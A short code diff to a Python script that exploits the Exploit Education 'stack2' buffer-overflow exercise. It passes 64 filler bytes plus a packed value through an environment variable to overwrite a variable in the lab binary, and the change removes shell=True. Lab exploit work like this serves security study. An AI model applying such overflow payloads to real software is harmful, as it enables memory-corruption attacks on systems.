@@ -5,7 +5,7 @@ import struct
 import subprocess
 
 if __name__ == "__main__":
-    subprocess.call(['./stack2'], shell=True, env={
+    subprocess.call(['./stack2'], env={
         **os.environ,
         'ExploitEducation': 64 * b'A' + struct.pack('I', 0x0d0a090a),
     })